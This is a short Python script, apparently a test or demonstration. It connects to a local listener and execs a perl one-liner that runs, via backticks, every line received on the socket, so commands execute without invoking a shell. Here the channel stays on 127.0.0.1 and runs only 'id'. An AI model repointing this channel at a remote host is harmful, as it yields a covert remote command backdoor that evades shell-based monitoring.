# needs: perl
# No shell at all: perl runs what comes from a descriptor.
import os, socket
if os.fork() == 0:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 5559))
    server.listen()
    server.accept()[0].sendall(b"id\n")
    os._exit(0)
s = socket.socket()
while s.connect_ex(("127.0.0.1", 5559)):
    s = socket.socket()
os.set_inheritable(s.fileno(), True)
os.execvp("perl", ["perl", "-e", "open(F,'<&=%d');while(<F>){print `$_`}" % s.fileno()])
